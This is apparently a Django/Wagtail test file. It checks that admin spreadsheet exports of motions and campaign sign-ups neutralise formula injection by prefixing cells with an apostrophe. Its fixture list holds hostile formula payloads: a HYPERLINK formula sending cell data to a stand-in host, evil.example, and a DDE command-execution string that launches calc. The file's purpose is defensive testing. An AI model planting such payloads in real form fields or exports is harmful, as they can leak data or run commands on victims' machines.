"""Spreadsheets downloaded from the admin run no formula: a motion titled "=HYPERLINK(…)" or a
sign-up named "@SUM(…)" is text in the secretary's or the volunteer's spreadsheet program."""

import csv
import io
from importlib import import_module

import openpyxl
import pytest
from django.conf import settings
from django.test import Client
from wagtail.admin.viewsets import viewsets as registered_viewsets
from wagtail.admin.viewsets.model import ModelViewSet

from cms.spreadsheets import FormulaSafeSpreadsheetMixin, neutralise_formula

from .conftest import make_member, submit_motion

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def download(client, url, export):
    response = client.get(url, {"export": export})
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+44 20 7946 0000", "'+44 20 7946 0000"), ("-5", "'-5"), ("@here", "'@here"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Votes for Life", "Votes for Life"), ("", ""), (5, 5), (None, None),
    ("a=b", "a=b"),
])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value, expected):
    assert neutralise_formula(value) == expected


def test_the_secretary_downloads_items_with_formula_titles_as_text(people):
    for title in FORMULAS:
        submit_motion(people, title=title)
    secretary = Client()
    secretary.force_login(people["secretary"])

    rows = csv_rows(download(secretary, "/admin/items/", "csv"))
    title_column = rows[0].index("Title")
    titles = sorted(row[title_column] for row in rows[1:])
    assert titles == sorted("'" + t.strip() for t in FORMULAS)  # a title is stripped when saved

    sheet = openpyxl.load_workbook(io.BytesIO(download(secretary, "/admin/items/", "xlsx"))).active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("Title")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(t.strip() for t in FORMULAS)
    assert {c.data_type for c in cells} == {"s"}  # strings, never formulas


def test_a_campaign_volunteer_downloads_sign_ups_with_formulas_as_text(demo_site):
    from campaigns import demo as campaign_demo
    from campaigns.models import CampaignFormField, CampaignFormPage, CampaignPage

    campaign_demo.seed(io.StringIO())
    campaign = CampaignPage.objects.get(slug="votes-for-life")
    form_page = CampaignFormPage.objects.child_of(campaign).get()
    # A volunteer labels a field like a formula too: the heading is neutralised as well.
    CampaignFormField.objects.create(page=form_page, label="=cmd", field_type="singleline", required=False)
    visitor = Client()
    for name in FORMULAS:
        response = visitor.post(form_page.url, {"your_name": name, "email": "jo@example.net", "cmd": "@x"})
        assert response.status_code == 200 and "Thank you" in response.content.decode()

    volunteer = Client()
    volunteer.force_login(make_member("root@example.org", "R1", is_superuser=True, is_staff=True))
    url = f"/admin/forms/submissions/{form_page.pk}/"
    rows = csv_rows(download(volunteer, url, "csv"))
    assert "'=cmd" in rows[0]
    name_column = rows[0].index("Your name")
    assert sorted(row[name_column] for row in rows[1:]) == sorted("'" + n.strip() for n in FORMULAS)
    assert {row[rows[0].index("'=cmd")] for row in rows[1:]} == {"'@x"}

    sheet = openpyxl.load_workbook(io.BytesIO(download(volunteer, url, "xlsx"))).active
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str))
    assert "=cmd" in [cell.value for cell in sheet[1]]


@pytest.mark.django_db  # a page instance looks up its content type
def test_every_admin_listing_that_exports_is_formula_safe():
    """A listing added later with `list_export` must use the same rule (cms.spreadsheets)."""
    import_module(settings.ROOT_URLCONF)  # the admin's URLs register its viewsets
    # A viewset that never set list_export holds Wagtail's UNDEFINED marker: it offers no download.
    exporting = [vs for vs in registered_viewsets.viewsets
                 if isinstance(vs, ModelViewSet) and getattr(vs, "list_export", None)
                 and vs.list_export is not ModelViewSet.UNDEFINED]
    assert exporting, "the items and meetings listings export"
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, FormulaSafeSpreadsheetMixin), viewset
    from campaigns.models import CampaignFormPage

    assert issubclass(CampaignFormPage().get_submissions_list_view_class(), FormulaSafeSpreadsheetMixin)
